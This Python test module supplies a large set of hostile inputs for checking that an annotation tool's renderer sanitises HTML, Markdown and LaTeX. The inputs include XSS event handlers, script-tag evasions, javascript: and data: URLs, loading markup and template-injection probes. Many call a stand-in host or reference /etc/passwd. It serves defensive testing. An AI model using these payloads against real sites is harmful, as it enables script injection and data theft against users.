"""Texts that try to run something, load something, hide something or stop the page, and what may come of them.

Every text that could act calls `__pwned()` or asks `elsewhere.invalid`: a page that shows them all must have
neither been called nor asked.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

from annotation.rendering.allowed import ATTRIBUTES, MATH_ATTRIBUTES, MATH_TAGS, SCHEMES, TAGS, is_math_attribute

HIT = "window.__pwned()"
AWAY = "http://elsewhere.invalid"


def _handlers() -> list[str]:
    """Event handlers on elements that start by themselves or at a touch."""
    elements = [
        ("img", "src=x onerror"),
        ("img", f"src={AWAY}/a.png onload"),
        ("svg", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("input", "autofocus onfocus"),
        ("select", "autofocus onfocus"),
        ("textarea", "autofocus onfocus"),
        ("button", "autofocus onfocus"),
        ("video", "src=x onerror"),
        ("audio", "src=x onerror"),
        ("video", f"poster={AWAY}/p.png onloadstart"),
        ("details", "open ontoggle"),
        ("marquee", "onstart"),
        ("object", "data=x onerror"),
        ("embed", "src=x onload"),
        ("iframe", "onload"),
        ("style", "onload"),
        ("script", "src=x onerror"),
        ("link", "rel=stylesheet href=x onerror"),
        ("div", "onmouseover"),
        ("p", "onclick"),
        ("a", "href=# onclick"),
        ("form", "onsubmit"),
        ("table", "onscroll"),
        ("div", "style=animation-name:x onanimationstart"),
        ("div", "contenteditable autofocus onfocus"),
        ("dialog", "open onclose"),
        ("math", "onclick"),
        ("keygen", "autofocus onfocus"),
        ("meter", "onmouseover"),
        ("xss", "autofocus tabindex=1 onfocus"),
        ("isindex", "type=image src=1 onerror"),
        ("source", "onerror"),
        ("track", "default src=x onerror"),
    ]
    quoted = [f'<{tag} {rest}="{HIT}">' for tag, rest in elements]
    return [*quoted, f"<img src=x onerror={HIT}//", f"<img/src=x/onerror={HIT}>", f'<svg/onload="{HIT}"//']


def _scripts() -> list[str]:
    """Script elements, whole, broken, nested and out of place."""
    return [
        f"<script>{HIT}</script>",
        f"<SCRIPT>{HIT}</SCRIPT>",
        f"<script\n>{HIT}</script\n>",
        f"<script src={AWAY}/x.js></script>",
        "<script src=//elsewhere.invalid/x.js></script>",
        f"<scr<script>ipt>{HIT}</scr</script>ipt>",
        f"<<script>{HIT}//<</script>",
        f"</title><script>{HIT}</script>",
        f"</textarea><script>{HIT}</script>",
        f"</template><script>{HIT}</script>",
        f"</script><script>{HIT}</script>",
        f"--><script>{HIT}</script>",
        f"]]><script>{HIT}</script>",
        f"<![CDATA[<script>{HIT}</script>]]>",
        f"<!--><script>{HIT}</script>-->",
        f'<noscript><p title="</noscript><script>{HIT}</script>">',
        f"<script type=module>{HIT}</script>",
        f"<script>import('{AWAY}/x.js')</script>",
        f"</pre></code></div></section></main><script>{HIT}</script>",
        f"<xmp><script>{HIT}</script></xmp>",
        f"<plaintext><script>{HIT}</script>",
        f"\x00<script>{HIT}</script>",
        f"<scr\x00ipt>{HIT}</scr\x00ipt>",
        f"\ufeff<script>{HIT}</script>",
        f"<ſcript>{HIT}</ſcript>",
        f"＜script＞{HIT}＜/script＞",
        f"&lt;script&gt;{HIT}&lt;/script&gt;",
        f"&#60;script&#62;{HIT}&#60;/script&#62;",
        f"&#x3c;script&#x3e;{HIT}&#x3c;/script&#x3e;",
        f"%3Cscript%3E{HIT}%3C/script%3E",
        f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    ]


def _addresses() -> list[str]:
    """javascript:, data:, vbscript: and their disguises, in each of Markdown's ways to make a link."""
    spelled = [
        f"javascript:{HIT}",
        f"JaVaScRiPt:{HIT}",
        f"java\tscript:{HIT}",
        f"java\nscript:{HIT}",
        f" javascript:{HIT}",
        f"\x01javascript:{HIT}",
        f"javascript&colon;{HIT}",
        f"javascript&#58;{HIT}",
        f"&#106;avascript:{HIT}",
        f"&#x6A;avascript:{HIT}",
        f"javascript://%0a{HIT}",
        f"java&Tab;script:{HIT}",
        f"java&NewLine;script:{HIT}",
        f"\u200bjavascript:{HIT}",
        f"jav\u00adascript:{HIT}",
        f"vbscript:{HIT}",
        f"data:text/html,<script>{HIT}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZCgpPC9zY3JpcHQ+",
        f"data:image/svg+xml,<svg onload={HIT}>",
        "file:///etc/passwd",
        "blob:http://localhost/x",
        "//elsewhere.invalid/",
        "/logout/",
        "\\\\elsewhere.invalid\\x",
        "ftp://elsewhere.invalid/",
        "http://[",
        "http:///",
        "https:javascript:x",
    ]
    forms = ["[a]({})", "[a](<{}>)", "<{}>", "![a]({})", "[a]: {}\n\n[a]"]
    texts = [forms[n % len(forms)].format(address) for n, address in enumerate(spelled)]
    return texts + [f"[a]({address})" for n, address in enumerate(spelled) if n % len(forms)]


def _markup() -> list[str]:
    """Elements that load, post, reshape or leave the page, and SVG and MathML with reach."""
    return [
        f"<iframe src={AWAY}/></iframe>",
        '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
        f"<object data={AWAY}/x.swf></object>",
        f"<embed src={AWAY}/x>",
        f"<applet code={AWAY}/x></applet>",
        f"<link rel=stylesheet href={AWAY}/x.css>",
        f"<link rel=prefetch href={AWAY}/x>",
        f"<link rel=dns-prefetch href={AWAY}>",
        f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        f"<base href={AWAY}/>",
        f"<form action={AWAY}/><button autofocus>Submit</button></form>",
        f"<form id=judgment></form><button form=judgment formaction={AWAY}/>Submit</button>",
        f"<input type=image src={AWAY}/x.png>",
        f"<isindex action=javascript:{HIT}>",
        "<style>* { display: none !important }</style>",
        f"<style>@import '{AWAY}/x.css';</style>",
        f"<style>body {{ background: url({AWAY}/x.png) }}</style>",
        f'<p style="background:url({AWAY}/x.png)">a</p>',
        '<p style="position:fixed;inset:0;z-index:9999;background:red">covered</p>',
        f'<p style="behavior:url({AWAY}/x.htc)">a</p>',
        f'<p style="width:expression({HIT})">a</p>',
        f"<table background={AWAY}/x.png><td background={AWAY}/y.png></table>",
        f"<img srcset='{AWAY}/x.png 1x'>",
        f"<picture><source srcset={AWAY}/x.png><img></picture>",
        f"<video><source src={AWAY}/x.mp4></video>",
        f"<audio src={AWAY}/x.mp3 autoplay></audio>",
        f"<svg><script>{HIT}</script></svg>",
        f"<svg><image href={AWAY}/x.png /></svg>",
        f"<svg><use href={AWAY}/x.svg#a /></svg>",
        f'<svg><a xlink:href="javascript:{HIT}"><text>a</text></a></svg>',
        f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
        f"<svg><set attributeName=onmouseover to={HIT}>",
        f"<svg><foreignObject><iframe src=javascript:{HIT}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={HIT}></style></svg>",
        f'<svg></p><style><a id="</style><img src=x onerror={HIT}>">',
        f'<math href="javascript:{HIT}">a</math>',
        f'<math><mi xlink:href="javascript:{HIT}">a</mi></math>',
        f'<math><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{HIT}">a</maction></math>',
        f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}></annotation-xml></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
        f"<math><mglyph src={AWAY}/x.png></mglyph></math>",
        f"<math><style><img src=x onerror={HIT}></style></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
        f"<template><img src=x onerror={HIT}></template>",
        f"<template shadowrootmode=open><script>{HIT}</script></template>",
        f"<a href={AWAY}/ ping={AWAY}/p>a</a>",
        "<a href=x target=_top download>a</a>",
        "<a id=desk name=desk>a</a><form id=desk><input name=dataset></form>",
        "<img name=getElementById><form name=querySelector>",
        "<div id=say></div><div id=toasts></div><div id=main></div>",
        "<button data-do=leave>Next</button><button type=submit form=judgment>Submit</button>",
        f"<div hx-get={AWAY}/ hx-trigger=load>a</div>",
        "<dialog open>covered</dialog>",
        f"<portal src={AWAY}/></portal>",
        f"<frameset onload={HIT}><frame src={AWAY}/></frameset>",
        f"<body background={AWAY}/x.png>",
        f"<bgsound src={AWAY}/x.wav>",
        f"<layer src={AWAY}/x></layer>",
        f"<?xml-stylesheet href={AWAY}/x.css?>",
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "{AWAY}/x">]><a>&x;</a>',
    ]


def _markdown() -> list[str]:
    """Markdown that tries to become an attribute, an element or a request."""
    return [
        f"![a]({AWAY}/pixel.png)",
        f'![a]({AWAY}/pixel.png "onload={HIT}")',
        f'![" onerror="{HIT}]({AWAY}/x.png)',
        f"[![a]({AWAY}/x.png)]({AWAY}/y)",
        f"![a][b]\n\n[b]: {AWAY}/x.png",
        f'[a]({AWAY}/"onmouseover="{HIT}")',
        f"[a]({AWAY}/'onmouseover='{HIT}')",
        f'[a](<{AWAY}/"onclick={HIT}>)',
        f'[a]({AWAY}/ "\\" onclick=\\"{HIT}")',
        f"<{AWAY}/\"onmouseover='{HIT}'>",
        f'<a@elsewhere.invalid"onmouseover={HIT}>',
        f'```"><script>{HIT}</script>\nx\n```',
        f"```html\n<script>{HIT}</script>\n```",
        f'```mermaid\ngraph TD; A[<img src=x onerror={HIT}>] --> B\nclick A href "javascript:{HIT}"\n```',
        f'```" onmouseover="{HIT}\nx\n```',
        f"`<script>{HIT}</script>`",
        f"    <script>{HIT}</script>",
        f"| <script>{HIT}</script> |\n|---|\n| <img src=x onerror={HIT}> |",
        f"# <svg onload={HIT}>",
        f"> <iframe src={AWAY}/>",
        f"- [ ] <img src=x onerror={HIT}>\n- [x] [a](javascript:{HIT})",
        f"1. <style>@import '{AWAY}/x.css'</style>",
        f"~~<script>{HIT}</script>~~ **<img src=x onerror={HIT}>**",
        f"[a\\]({AWAY})](javascript:{HIT})",
        f'[a](javascript:{HIT} "title")',
        f"[^1]\n\n[^1]: <script>{HIT}</script>",
        "{% load static %}{{ request }}{% include '/etc/passwd' %}",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
        f"{{{{constructor.constructor('{HIT}')()}}}}",
        f"</style></script>--><b onmouseover={HIT}>",
        "</template></pre></textarea></select></table></form>",
        f"{AWAY}/plain www.elsewhere.invalid a@elsewhere.invalid",
    ]


def _formulas() -> list[str]:
    """LaTeX with reach, and LaTeX that grows."""
    commands = [
        f"\\href{{javascript:{HIT}}}{{x}}",
        f"\\url{{{AWAY}/}}",
        "\\unicode{x202E}",
        "\\unicode{x3C}script\\unicode{x3E}",
        f"\\text{{<img src=x onerror={HIT}>}}",
        f"\\text{{</mtext></math><script>{HIT}</script>}}",
        f"\\mbox{{<svg onload={HIT}>}}",
        f"\\hbox{{$\\text{{<script>{HIT}</script>}}$}}",
        "\\class{btn primary}{\\text{Submit}}",
        "\\style{position:fixed;inset:0}{x}",
        f"\\style{{background:url({AWAY}/x.png)}}{{x}}",
        "\\cssId{desk}{x}",
        f"\\includegraphics{{{AWAY}/x.png}}",
        "\\input{/etc/passwd}",
        "\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\c",
        "\\newcommand{\\a}[1]{#1#1}\\a{\\a{\\a{x}}}",
        "\\rule{999em}{999em}",
        "\\hspace{-99em}covered\\hspace{999em}",
        "\\raise{99em}{x}\\lower 99em {y}",
        "\\color{white}{hidden}",
        "\\colorbox{black}{\\text{hidden}}",
        f"\\operatorname{{<script>{HIT}</script>}}",
        f"\\verb|<img src=x onerror={HIT}>|",
        f"\\tag{{<img src=x onerror={HIT}>}}",
        "\\text{&#60;script&#62;}",
        f"\\genfrac{{<script>}}{{{HIT}}}{{0pt}}{{0}}{{a}}{{b}}",
        f'\\mathrm{{"onclick={HIT}}}',
        f'\\begin{{array}}{{c" onclick="{HIT}}}a\\end{{array}}',
        "\\frac{a}",
        "\\left( x",
        "}{}{",
        "x_a_b^c^d",
        "\\sqrt" * 500,
        "{" * 500 + "}" * 500,
        "x\u202ey\u200bz",
    ]
    shells = ["${}$", "$${}$$", "\\({}\\)", "\\[{}\\]"]
    return [shells[n % len(shells)].replace("{}", command, 1) for n, command in enumerate(commands)]


def _shapes() -> list[str]:
    """Texts that are only too long, too deep, empty or invisible."""
    return [
        "x" * 20_000,
        "word " * 4_000,
        "[" * 5_000,
        "![[" * 2_000,
        "> " * 3_000 + "a",
        "*_" * 3_000,
        "`" * 5_000,
        "{" * 10_000 + "}" * 10_000,
        "$" * 5_000,
        "\\(" * 5_000,
        "\n" * 5_000 + "end",
        "| a " * 300 + "|\n" + "|---" * 300 + "|\n" + ("| b " * 300 + "|\n") * 5,
        "".join("  " * n + "- deep\n" for n in range(100)),
        "# " * 2_000,
        "\u200b" * 3_000,
        "\u202e" * 500 + "reversed" + "\u202c" * 500,
        "a\u0300\u0301" * 3_000,
        "👨‍👩‍👧" * 500,
        "\u2028line\u2029paragraph\u0085next",
        "\x00\x01\x02\x1b[31m\x7f\x9b",
        "half \ud800 pair \udfff",
        "\ufffe\uffff\ufdd0",
        "مرحبا \u202eabc\u202c שלום \u2067x\u2069",
        "pay\u200bpal \u2060 \u00ad \u034f \U000e0041\U000e007f \u3164",
        "ﷺ" * 500,
        "Z̵̛̺a̸̡̲l̷̢̛g̶̙̈o̵̖͝" * 200,
        " ",
        "\n\n\n",
    ]


FAMILIES = {
    "handler": _handlers,
    "script": _scripts,
    "address": _addresses,
    "markup": _markup,
    "markdown": _markdown,
    "formula": _formulas,
    "shape": _shapes,
}
TEXTS = {f"{name}-{n}": text for name, make in FAMILIES.items() for n, text in enumerate(make())}


class Outline(HTMLParser):
    """Collects the elements and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_allowed(html: str) -> None:
    """Only elements, attributes and addresses of the allow-list: no script, no handler, nothing that loads."""
    html.encode()
    for tag, attributes in Outline(html).found:
        if tag in MATH_TAGS:
            assert set(attributes) <= MATH_ATTRIBUTES, (tag, attributes)
            assert all(is_math_attribute(name, value or "") for name, value in attributes.items()), (tag, attributes)
            continue
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, attributes)
        if "href" in attributes:
            assert urlsplit(str(attributes["href"])).scheme in SCHEMES, attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
